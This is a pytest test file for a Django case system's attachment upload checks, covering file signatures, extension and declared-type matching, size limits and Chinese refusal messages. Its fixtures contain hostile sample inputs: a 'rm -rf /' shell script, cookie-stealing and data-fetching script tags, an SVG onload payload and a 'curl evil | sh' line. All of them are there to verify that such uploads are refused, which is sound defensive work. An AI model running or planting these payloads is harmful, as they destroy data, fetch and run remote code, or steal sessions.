"""Attachment uploads (附件上传): allowed types only, content checked by its magic bytes against the name
and the declared type, the size limit; over the API and the case page's upload form. A script or a web
page disguised as a PDF is refused with a Chinese message and nothing is stored."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from jingwu.audit.models import AuditEntry
from jingwu.cases.forms import ATTACHMENT_MAX_BYTES
from jingwu.cases.models import Attachment, Case
from jingwu.cases.tests.test_documents import filed_case
from jingwu.core.filetypes import UploadRefused, check_upload
from jingwu.org.models import User
from tests.api.helpers import Api, login

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32

DISGUISED = [
    pytest.param(b"#!/bin/sh\nrm -rf / --no-preserve-root\n", id="shell-script"),
    pytest.param(b"<html><body><script>alert(document.cookie)</script></body></html>", id="html-script"),
    pytest.param(b"<script>fetch('/api/persons')</script>", id="bare-script"),
    pytest.param(b"MZ\x90\x00\x03\x00\x00\x00", id="windows-executable"),
    pytest.param(b"\x7fELF\x02\x01\x01\x00", id="elf-executable"),
    pytest.param(b"  %PDF-1.7 not at the start", id="pdf-marker-not-first"),
]


def office(kind: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{kind}/document.xml", "<x/>")
    return buffer.getvalue()


# --- the check itself (pure) ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "declared", "recorded"),
    [
        ("询问笔录.pdf", PDF, "application/pdf", "application/pdf"),
        ("现场.JPG", JPEG, "image/jpeg", "image/jpeg"),
        ("现场.jpeg", JPEG, "", "image/jpeg"),
        ("截图.png", PNG, "application/octet-stream", "image/png"),
        ("笔录.txt", "询问笔录：当事人称……".encode(), "text/plain; charset=utf-8", "text/plain"),
        ("笔录.txt", "询问笔录".encode("gb18030"), "text/plain", "text/plain"),
        (
            "报告.docx",
            office("word"),
            "",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("台账.xlsx", office("xl"), "", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("监控.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 16, "video/mp4", "video/mp4"),
    ],
)
def test_allowed_files_pass_and_record_the_proven_type(name, content, declared, recorded) -> None:
    assert check_upload(name, content, declared) == recorded


@pytest.mark.parametrize("content", DISGUISED)
def test_anything_but_a_pdf_named_pdf_is_refused(content) -> None:
    with pytest.raises(UploadRefused, match="内容不是 PDF 文件"):
        check_upload("起诉意见书.pdf", content, "application/pdf")


@pytest.mark.parametrize(
    ("name", "content", "declared", "message"),
    [
        ("run.sh", b"#!/bin/sh\n", "text/x-sh", "不支持的附件类型（.sh）"),
        ("page.html", b"<html></html>", "text/html", "不支持的附件类型（.html）"),
        ("image.svg", b"<svg onload=alert(1)>", "image/svg+xml", "不支持的附件类型（.svg）"),
        ("tool.exe", b"MZ\x90\x00", "application/x-msdownload", "不支持的附件类型（.exe）"),
        ("宏.docm", office("word"), "", "不支持的附件类型（.docm）"),
        ("无扩展名", PDF, "application/pdf", "不支持的附件类型（无扩展名）"),
        ("照片.png", PNG, "text/html", "文件类型（text/html）与扩展名 .png 不符"),
        ("照片.jpg", PNG, "image/jpeg", "内容不是 JPEG 文件"),
        ("说明.txt", b"#!/usr/bin/env python\nimport os", "text/plain", "内容不是 文本 文件"),
        ("说明.txt", b"<!DOCTYPE html><p>hi", "text/plain", "内容不是 文本 文件"),
        ("报告.docx", b"PK\x03\x04 not really a zip", "", "内容不是 Word 文件"),
    ],
)
def test_refusals_name_the_reason_in_chinese(name, content, declared, message) -> None:
    with pytest.raises(UploadRefused) as caught:
        check_upload(name, content, declared)
    assert message in caught.value.message


@given(st.binary(max_size=64))
def test_random_bytes_pass_as_pdf_only_when_they_start_with_the_signature(content) -> None:
    try:
        check_upload("a.pdf", content, "application/pdf")
    except UploadRefused:
        assert not content.startswith(b"%PDF-")
    else:
        assert content.startswith(b"%PDF-")


# --- over the API and the case page -------------------------------------------------------------------


@pytest.fixture(autouse=True)
def file_store(settings, tmp_path) -> Path:
    settings.JINGWU_FILES_ROOT = tmp_path / "files"
    return settings.JINGWU_FILES_ROOT


def _user(username: str) -> User:
    return User.objects.select_related("unit").get(username=username)


@pytest.fixture
def filed(db) -> Case:
    return filed_case(_user("officer"), _user("legal_officer"), _user("chief"))


def _api_upload(api: Api, case: Case, name: str, content: bytes, declared: str) -> Any:
    return api.client.post(
        f"/api/cases/{case.pk}/attachments",
        {"file": SimpleUploadedFile(name, content, declared)},
        headers={"Authorization": f"Bearer {api.token}"},
    )


def _page_upload(case: Case, name: str, content: bytes, declared: str) -> Any:
    client = Client()
    client.force_login(_user("officer"))
    url = reverse("cases:attachment_create", args=[case.pk])
    return client.post(url, {"file": SimpleUploadedFile(name, content, declared)})


def _stored(file_store: Path) -> list[Path]:
    return [p for p in file_store.rglob("*") if p.is_file()] if file_store.exists() else []


@pytest.mark.parametrize("content", DISGUISED[:3])
def test_the_api_refuses_a_script_disguised_as_a_pdf(filed, file_store, content) -> None:
    response = _api_upload(login("officer"), filed, "起诉意见书.pdf", content, "application/pdf")
    assert response.status_code == 400
    body = response.json()
    assert body["detail"] == "文件内容与类型不符：扩展名为 .pdf，但内容不是 PDF 文件"
    assert "内容不是 PDF" in body["errors"]["content"]
    assert not Attachment.objects.filter(case=filed).exists() and _stored(file_store) == []
    assert not AuditEntry.objects.filter(action="case.attachment_add", object_id=str(filed.pk)).exists()


def test_the_api_refuses_a_forbidden_type_and_a_lying_content_type(filed) -> None:
    api = login("officer")
    refused = _api_upload(api, filed, "install.sh", b"#!/bin/sh\necho hi\n", "application/x-sh")
    assert refused.status_code == 400 and "不支持的附件类型（.sh）" in refused.json()["detail"]
    lying = _api_upload(api, filed, "照片.png", PNG, "text/html")
    assert lying.status_code == 400 and "与扩展名 .png 不符" in lying.json()["detail"]
    assert not Attachment.objects.filter(case=filed).exists()


def test_the_api_accepts_a_real_pdf_and_records_the_proven_type(filed) -> None:
    response = _api_upload(login("officer"), filed, "询问笔录.pdf", PDF, "application/octet-stream")
    assert response.status_code == 201, response.content.decode()
    assert response.json()["content_type"] == "application/pdf"
    assert Attachment.objects.get(case=filed).content_type == "application/pdf"


def test_the_api_enforces_the_size_limit(filed, file_store) -> None:
    too_big = PDF + b"\0" * (ATTACHMENT_MAX_BYTES + 1 - len(PDF))
    response = _api_upload(login("officer"), filed, "大文件.pdf", too_big, "application/pdf")
    assert response.status_code == 400
    assert "不能超过20 MB" in response.json()["errors"]["file"]
    assert _stored(file_store) == []


def test_the_upload_form_refuses_a_script_disguised_as_a_pdf(filed, file_store) -> None:
    response = _page_upload(filed, "起诉意见书.pdf", b"#!/bin/sh\ncurl evil | sh\n", "application/pdf")
    assert response.status_code == 400
    assert "文件内容与类型不符：扩展名为 .pdf，但内容不是 PDF 文件" in response.content.decode()
    assert not Attachment.objects.filter(case=filed).exists() and _stored(file_store) == []
    accepted = _page_upload(filed, "现场.jpg", JPEG, "image/jpeg")
    assert accepted.status_code == 302
    assert Attachment.objects.get(case=filed).content_type == "image/jpeg"


def test_the_upload_form_enforces_the_size_limit(filed) -> None:
    too_big = JPEG + b"\0" * (ATTACHMENT_MAX_BYTES + 1 - len(JPEG))
    response = _page_upload(filed, "大照片.jpg", too_big, "image/jpeg")
    assert response.status_code == 400 and "单个文件不能超过20 MB" in response.content.decode()
    assert not Attachment.objects.filter(case=filed).exists()
